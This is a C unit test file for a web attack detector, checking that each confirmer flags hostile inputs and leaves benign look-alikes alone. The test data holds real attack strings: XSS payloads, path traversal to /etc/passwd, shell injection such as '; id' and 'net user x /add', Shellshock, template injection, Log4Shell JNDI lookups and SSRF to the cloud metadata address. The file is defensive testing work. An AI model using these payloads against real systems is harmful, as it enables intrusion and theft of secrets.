/* SPDX-License-Identifier: Apache-2.0 */
/* Each confirmer alone: what it must confirm, and what looks like it and is none. The values are
 * written for this test; what the confirmers do on collected attacks is measured in
 * signatures_data.c. */
#include "detect/confirm.h"

#include "check.h"

#include <string.h>

typedef struct judged {
    const char *confirmer, *argument, *text;
    size_t len; /* 0: strlen */
} judged;

static double confidence(const judged *j)
{
    stk_auto_arena *arena = stk_arena_new(1 << 20);
    const stk_confirmer *c = stk_confirmer_named((stk_str){ j->confirmer, strlen(j->confirmer) });
    stk_confirmed out = { 0 };
    if (c == NULL || arena == NULL)
        return -1;
    stk_str text = { j->text, j->len ? j->len : strlen(j->text) };
    return c->judge(text, j->argument, arena, &out) ? out.confidence : 0;
}

static const char *all(const judged *list, size_t count, bool fires)
{
    for (size_t i = 0; i < count; i++) {
        double sure = confidence(&list[i]);
        if (sure < 0 || (sure >= 0.5) != fires) {
            printf("# %s(%s) gives %.2f: %s\n", list[i].confirmer,
                   list[i].argument ? list[i].argument : "", sure, list[i].text);
            return fires ? "something that should be confirmed is not"
                         : "something ordinary is confirmed";
        }
    }
    return NULL;
}
#define ALL(list, fires) all((list), sizeof(list) / sizeof *(list), (fires))

static const char *test_html(void)
{
    static const judged fires[] = {
        { "html", NULL, "<script>x</script>", 0 },
        { "html", NULL, "<SCRIPT SRC=//evil>", 0 },
        { "html", NULL, "<scr\0ipt>alert(1)</script>", 26 },
        { "html", NULL, "<img src=x onerror=alert(1)>", 0 },
        { "html", NULL, "<svg/onload=alert(1)>", 0 },
        { "html", NULL, "<x:script xmlns:x=\"a\">", 0 },
        { "html", NULL, "<body onload!#$%&()*~+-_.,:;?@[/|]^`=alert(1)>", 0 },
        { "html", NULL, "\" onfocus=alert(1) autofocus x=\"", 0 },
        { "html", NULL, "' onclick='go()", 0 },
        { "html", NULL, "x onmouseover=go()", 0 },
        { "html", NULL, "javascript:go()", 0 },
        { "html", NULL, "javascript:void(0);go()", 0 },
        { "html", NULL, "java\nscript\t:go()", 0 },
        { "html", NULL, "ja&Tab;vascript&colon;go()", 0 },
        { "html", NULL, "<a href=\" javascript:go()\">", 0 },
        { "html", NULL, "<a href=data:text/html;base64,PHN2Zz4=>", 0 },
        { "html", NULL, "<p style=\"x:expr/**/ession(go())\">", 0 },
        { "html", NULL, "<p style='-m\\oz-bin\\ding:url(//e)'>", 0 },
        { "html", NULL, "</script><b>", 0 },
        { "html", "strict", "</title>", 0 },
        { "html", "strict", "<form action=//evil>", 0 },
        { "html", "strict", "<a href=//evil>prize</a>", 0 },
    };
    static const judged quiet[] = {
        { "html", NULL, "<p>Soft <b>wool</b>, see <a href=\"/sizes\">sizes</a></p>", 0 },
        { "html", NULL, "<img src=\"/a.jpg\" alt=\"a shirt\">", 0 },
        { "html", "strict", "a < b and c > d", 0 },
        { "html", "strict", "I <3 you", 0 },
        { "html", "strict", "<b>sale</b>", 0 },
        { "html", "strict", "<ann@mail.example>", 0 },
        { "html", "strict", "javascript: the good parts", 0 },
        { "html", "strict", "javascript:void(0)", 0 },
        { "html", "strict", "expression (art)", 0 },
        { "html", "strict", "one=1 on=2 online=yes", 0 },
        { "html", "strict", "size 5\" onion=red", 0 },
        { "html", "strict", "tom &lt; jerry", 0 },
        { "html", "strict", "<", 0 },
        { "html", "strict", "<a", 0 },
    };
    const char *why = ALL(fires, true);
    return why ? why : ALL(quiet, false);
}

static const char *test_script(void)
{
    static const judged fires[] = {
        { "script", NULL, "';alert(1)//", 0 },
        { "script", NULL, "\"-prompt`1`-\"", 0 },
        { "script", NULL, "document.cookie", 0 },
        { "script", NULL, "document/**/.location='//evil'", 0 },
        { "script", NULL, "window[\"al\"+\"ert\"](1)", 0 },
        { "script", NULL, "setTimeout('go()',1)", 0 },
        { "script", NULL, "(alert)(1)", 0 },
        { "script", NULL, "alert?.(1)", 0 },
        { "script", NULL, "a=eval;a(x)", 0 },
        { "script", NULL, "String.fromCharCode(97)", 0 },
        { "script", NULL, "\\u0061lert(1)", 0 },
        { "script", NULL, "(![]+[])[+[]]+(![]+[])[+!+[]]", 0 },
        { "script", NULL, "'ja'+'va'+'scr'+'ipt'", 0 },
    };
    static const judged quiet[] = {
        { "script", NULL, "please confirm (yes or no)", 0 },
        { "script", NULL, "red alert", 0 },
        { "script", NULL, "O'Brien (Dublin)", 0 },
        { "script", NULL, "{\"n\": null, \"q\": \"=SUM(A1:A10)\"}", 0 },
        { "script", NULL, "{\"city\": \"d'Ang\\u00e9ly\", \"t\": \"a \\u003c b\"}", 0 },
        { "script", NULL, "my documents.zip", 0 },
        { "script", NULL, "top. quality", 0 },
        { "script", NULL, "it's 'new' - 20% (today)", 0 },
        { "script", NULL, "items[0][name]", 0 },
        { "script", NULL, "C:\\users\\ann", 0 },
        { "script", NULL, "the window location is north", 0 },
        { "script", NULL, "{\"a\":[1,2],\"b\":{}}", 0 },
    };
    const char *why = ALL(fires, true);
    return why ? why : ALL(quiet, false);
}

static const char *test_path(void)
{
    static const judged fires[] = {
        { "path", NULL, "../../x", 0 },
        { "path", NULL, "..\\..\\x", 0 },
        { "path", NULL, "..%5c..%5cx", 0 },
        { "path", NULL, "0x2e0x2e0x2fx", 0 },
        { "path", NULL, "....//....//x", 0 },
        { "path", NULL, "..;/manager", 0 },
        { "path", NULL, "/etc/passwd", 0 },
        { "path", NULL, "/etc/x.conf", 0 },
        { "path", NULL, "c:\\windows\\win.ini", 0 },
        { "path", NULL, "/proc/self/environ", 0 },
        { "path", NULL, "../.htpasswd", 0 },
        { "path", NULL, "../app/parameters.yml", 0 },
        { "path", NULL, "cat /etc/passwd-", 0 },
        { "path", NULL, "WEB-INF/web.xml", 0 },
        { "path", NULL, "php://input", 0 },
        { "path", NULL, "expect://id", 0 },
        { "path", NULL, "a.php\0.jpg", 10 },
        { "path", NULL, "/var/log/nginx/access.log", 0 },
        { "path", "base64", "Li4vLi4vLi4vZXRjL3Bhc3N3ZA==", 0 },
    };
    static const judged quiet[] = {
        { "path", NULL, "../index.html", 0 },
        { "path", NULL, "how to edit /etc/fstab", 0 },
        { "path", NULL, "/docs/etc/hosts-explained", 0 },
        { "path", NULL, "/home/pictures/../a.jpg", 0 },
        { "path", NULL, "/../images/a.png", 0 },
        { "path", NULL, "wait... what", 0 },
        { "path", NULL, "/etc-shop/x", 0 },
        { "path", NULL, "/etc/designs/shop.css", 0 },
        { "path", NULL, "/home", 0 },
        { "path", NULL, "a/b/c.html", 0 },
        { "path", NULL, "C:\\fakepath\\cat.jpg", 0 },
        { "path", NULL, "https://a.example/usr/5", 0 },
        { "path", NULL, "1..10", 0 },
        { "path", NULL, "v1.2.3", 0 },
        { "path", "base64", "aGVsbG8gd29ybGQ=", 0 },
        { "path", "url", "/opt/in", 0 },
    };
    const char *why = ALL(fires, true);
    return why ? why : ALL(quiet, false);
}

static const char *test_shell(void)
{
    static const judged fires[] = {
        { "shell", NULL, "; id", 0 },
        { "shell", NULL, "|id", 0 },
        { "shell", NULL, "a;id;", 0 },
        { "shell", NULL, "x && cat /a", 0 },
        { "shell", NULL, "\n/usr/bin/id\n", 0 },
        { "shell", NULL, "$(sleep 5)", 0 },
        { "shell", NULL, "`whoami`", 0 },
        { "shell", NULL, ";c'a't /a", 0 },
        { "shell", NULL, ";w\\ho\\ami", 0 },
        { "shell", NULL, ";cat${IFS}/a", 0 },
        { "shell", NULL, "| d^ir c:\\", 0 },
        { "shell", NULL, "&& net user x /add", 0 },
        { "shell", NULL, "powershell -c x", 0 },
        { "shell", NULL, "; sudo -u x whoami", 0 },
        { "shell", NULL, "/\?\?\?/c\?t x", 0 },
        { "shell", NULL, "/bin/c[a]t", 0 },
        { "shell", NULL, "; sleep 9", 0 },
        { "shell", NULL, "; ping evil.example -c 3", 0 },
        { "shell", NULL, "x; mail ann < /etc/hosts", 0 },
        { "shell", NULL, "sleep 25", 0 },
        { "shell", NULL, "() { :;}; x", 0 },
        { "shell", NULL, "Get-ChildItem", 0 },
        { "shell", NULL, "echo %USERNAME%", 0 },
        { "shell", "header", "() { :;}; echo", 0 },
    };
    static const judged quiet[] = {
        { "shell", NULL, "rock & roll; cat food", 0 },
        { "shell", NULL, "<p>fine &mdash; really; more text.</p><!-- /end -->", 0 },
        { "shell", NULL, "- one\n- two; more\n\n> quoted", 0 },
        { "shell", NULL, "if I run `npm install` here, it fails", 0 },
        { "shell", NULL, "now it's $(15)?", 0 },
        { "shell", NULL, "x\\n    at eval (eval at <anonymous> (app.js:2))", 0 },
        { "shell", NULL, "(){}[]", 0 },
        { "shell", NULL, "Johnson & Johnson | time to shop", 0 },
        { "shell", NULL, "name;id;price", 0 },
        { "shell", NULL, "red|blue|cut", 0 },
        { "shell", NULL, "I'd; i'd buy it", 0 },
        { "shell", NULL, "find my order", 0 },
        { "shell", NULL, "eat; sleep 8 hours", 0 },
        { "shell", NULL, "sleep 8", 0 },
        { "shell", NULL, "a=1&cd=5&id=7", 0 },
        { "shell", NULL, "${CLICK_URL}", 0 },
        { "shell", NULL, "$(document).ready", 0 },
        { "shell", NULL, "one\nsort of thing\ncat", 0 },
        { "shell", NULL, "get-well soon", 0 },
        { "shell", NULL, "ping pong; table", 0 },
        { "shell", "header", "Mozilla/5.0 (Linux; U; id; rm)", 0 },
    };
    const char *why = ALL(fires, true);
    return why ? why : ALL(quiet, false);
}

static const char *test_batch(void)
{
    static const judged fires[] = {
        { "batch", NULL, "for %i in (1,2) do echo %i", 0 },
        { "batch", NULL, "FOR /F \"delims=\" %%a IN ('x') DO y", 0 },
        { "batch", NULL, "& if exist c:\\a.txt del c:\\a.txt", 0 },
        { "batch", NULL, "IF /I \"%1\"==\"x\" GOTO end", 0 },
        { "batch", NULL, "if %a% equ 1 echo b", 0 },
    };
    static const judged quiet[] = {
        { "batch", NULL, "for 20% off in (all) shops", 0 },
        { "batch", NULL, "if it exists in my size", 0 },
        { "batch", NULL, "tell me if not defined well", 0 },
    };
    const char *why = ALL(fires, true);
    return why ? why : ALL(quiet, false);
}

static const char *test_template(void)
{
    static const judged fires[] = {
        { "template", NULL, "{{7*7}}", 0 },
        { "template", NULL, "{{ '7'*7 }}", 0 },
        { "template", NULL, "${3+4}", 0 },
        { "template", NULL, "<%= 8*8 %>", 0 },
        { "template", NULL, "#{1*2}", 0 },
        { "template", NULL, "{{x.__class__}}", 0 },
        { "template", NULL, "{% import os %}", 0 },
        { "template", NULL, "{{ config }}", 0 },
        { "template", NULL, "{% if x.__class__ %}", 0 },
        { "template", NULL, "%{(#a=@java.lang.Runtime@x)}", 0 },
        { "template", NULL, "*{T(java.lang.Runtime)}", 0 },
    };
    static const judged quiet[] = {
        { "template", NULL, "{{first_name}}", 0 },
        { "template", NULL, "${GDPR_CONSENT}", 0 },
        { "template", NULL, "{% if vip %}Dear {{ name }}{% else %}Hello{% endif %}", 0 },
        { "template", NULL, "<%= name %>", 0 },
        { "template", NULL, "[[Main page]]", 0 },
        { "template", NULL, "{\"a\":{\"b\":1}}", 0 },
        { "template", NULL, "50%{off}", 0 },
        { "template", NULL, "#{size}", 0 },
    };
    const char *why = ALL(fires, true);
    return why ? why : ALL(quiet, false);
}

static const char *test_lookup(void)
{
    static const judged fires[] = {
        { "lookup", NULL, "${jndi:ldap://x}", 0 },
        { "lookup", NULL, "${${lower:J}ndi:x}", 0 },
        { "lookup", NULL, "${${::-j}${::-n}${::-d}${::-i}:x}", 0 },
        { "lookup", NULL, "${${env:A:-j}ndi${env:A:-:}x}", 0 },
        { "lookup", NULL, "${${upper:${lower:j}}NDI:x}", 0 },
        { "lookup", NULL, "${jndi:ldap://x/${env:USER}", 0 },
        { "lookup", NULL, "${env:AWS_SECRET}", 0 },
    };
    static const judged quiet[] = {
        { "lookup", NULL, "${name}", 0 },
        { "lookup", NULL, "jndi:ldap", 0 },
        { "lookup", NULL, "${a:-b}", 0 },
        { "lookup", NULL, "}}}}${", 0 },
    };
    const char *why = ALL(fires, true);
    return why ? why : ALL(quiet, false);
}

static const char *test_address(void)
{
    static const judged fires[] = {
        { "address", NULL, "http://127.0.0.1/", 0 },
        { "address", NULL, "http://127.1/", 0 },
        { "address", NULL, "http://0177.0.0.1/", 0 },
        { "address", NULL, "http://0x7f000001/", 0 },
        { "address", NULL, "http://2130706433/", 0 },
        { "address", NULL, "//x@localhost:8080/x", 0 },
        { "address", NULL, "http://a.example@169.254.169.254/", 0 },
        { "address", NULL, "http://[::1]/", 0 },
        { "address", NULL, "gopher://a:70/", 0 },
        { "address", "remote", "http://a.example/x.txt", 0 },
        { "address", "remote", "http://a.example/x.php?", 0 },
        { "address", "remote", "http://192.0.2.5/x", 0 },
    };
    static const judged quiet[] = {
        { "address", NULL, "https://shop.example/", 0 },
        { "address", NULL, "http://192.0.2.5/", 0 },
        { "address", NULL, "//cdn.example/a.js", 0 },
        { "address", NULL, "/a/b", 0 },
        { "address", NULL, "http://localhost:3000/cb", 0 }, /* a program signing in, RFC 8252 */
        { "address", NULL, "http://999.1.1.1.1/", 0 },
        { "address", "remote", "https://shop.example/back?a=1", 0 },
        { "address", "remote", "https://shop.example/find?q=where+is+it?", 0 },
        { "address", "remote", "https://shop.example/?", 0 },
        { "address", "remote", "https://192.0.2.5/a.png", 0 },
        { "address", "remote", "x.txt", 0 },
    };
    const char *why = ALL(fires, true);
    return why ? why : ALL(quiet, false);
}

/* Long hostile values: each confirmer is linear, so this ends at once or not at all. */
static const char *test_long_values(void)
{
    static const char *const pieces[] = { "<a ",     "\"'", "${",      "$(", "../", "/*a",
                                          "alert/*", ";/",  "'+'",     "[]", "{{",  "if a ",
                                          "&lt;",    "\\u", "script:", "`" };
    enum { LONG = 1 << 18 };
    static char text[LONG];
    for (size_t p = 0; p < sizeof pieces / sizeof *pieces; p++) {
        size_t len = strlen(pieces[p]);
        for (size_t i = 0; i < LONG; i++)
            text[i] = pieces[p][i % len];
        for (const stk_confirmer *const *c = stk_confirmers; *c != NULL; c++) {
            stk_auto_arena *arena = stk_arena_new(16 << 20);
            stk_confirmed out = { 0 };
            bool hit = (*c)->judge((stk_str){ text, LONG }, NULL, arena, &out);
            CHECK(!hit || (out.confidence > 0 && out.confidence <= 1));
        }
    }
    return NULL;
}

static const check_test tests[] = {
    { "html", test_html },     { "script", test_script },   { "path", test_path },
    { "shell", test_shell },   { "batch", test_batch },     { "template", test_template },
    { "lookup", test_lookup }, { "address", test_address }, { "long values", test_long_values },
};
CHECK_MAIN(tests)
